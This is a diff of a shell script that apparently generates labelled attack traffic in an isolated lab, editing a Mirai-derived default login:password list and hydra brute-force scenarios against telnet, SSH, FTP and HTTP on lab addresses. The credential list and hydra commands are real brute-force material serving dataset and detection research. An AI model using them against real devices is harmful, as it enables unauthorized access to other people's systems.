@@ -360,12 +360,13 @@ printf '%s\n' 123456 password admin root 12345 1234 12345678 qwerty letmein defa
 # source was published in 2016), login:password per line. Hydra's telnet success check is
 # a heuristic ("telnet is by its nature unreliable to analyze"): when it takes a refusal
 # for a success it skips that login's other passwords, so few logins could end a run
-# after a handful of sessions. Fifteen logins keep the attack going. Some sessions stall in
+# after a handful of sessions. Fourteen logins keep the attack going. No empty passwords:
+# telnetd runs the host's own login(1) (the lab's namespaces share its accounts). Some sessions stall in
 # telnet option negotiation between hydra and inetutils telnetd until login(1) gives up
 # after 60 s (more of them on a slower machine); eight tasks keep sessions coming.
 printf '%s\n' root:xc3511 root:vizxv root:admin admin:admin root:888888 root:xmhdipc \
-    root:default root:juantech root:123456 root:54321 support:support root: admin:password \
-    root:root root:12345 user:user admin: root:pass admin:admin1234 root:1111 admin:smcadmin \
+    root:default root:juantech root:123456 root:54321 support:support admin:password \
+    root:root root:12345 user:user root:pass admin:admin1234 root:1111 admin:smcadmin \
     admin:1111 root:666666 root:password root:1234 root:klv123 Administrator:admin \
     service:service supervisor:supervisor guest:guest guest:12345 admin1:password \
     administrator:1234 666666:666666 888888:888888 ubnt:ubnt root:klv1234 root:Zte521 \
@@ -479,7 +480,7 @@ label 203.0.113.22 attack hydra-ssh hydra-ssh inbound brute-force "hydra -L user
 scenario hydra-ssh-2200 a23 45 60 -- $(hydra_cmd ssh2200 -s 2200 192.168.50.20 ssh)
 label 203.0.113.23 attack hydra-ssh-2200 hydra-ssh-2200 inbound brute-force "hydra -L users -P pass -t 4 -s 2200 192.168.50.20 ssh"
 scenario hydra-telnet a24 50 150 -- hydra -I -C "$work/mirai-combos.txt" -t 8 -w 10 -o "$work/hydra-telnet.out" -s 23 192.168.50.20 telnet
-label 203.0.113.24 attack hydra-telnet hydra-telnet inbound brute-force "hydra -C mirai-combos (59 login:password pairs, 15 logins) -t 8 192.168.50.20 telnet"
+label 203.0.113.24 attack hydra-telnet hydra-telnet inbound brute-force "hydra -C mirai-combos (57 login:password pairs, 14 logins) -t 8 192.168.50.20 telnet"
 scenario hydra-ftp a25 55 60 -- $(hydra_cmd ftp -s 21 192.168.50.20 ftp)
 label 203.0.113.25 attack hydra-ftp hydra-ftp inbound brute-force "hydra -L users -P pass -t 4 192.168.50.20 ftp"
 scenario hydra-http-basic a26 60 60 -- $(hydra_cmd http -s 80 192.168.50.20 http-get /admin)
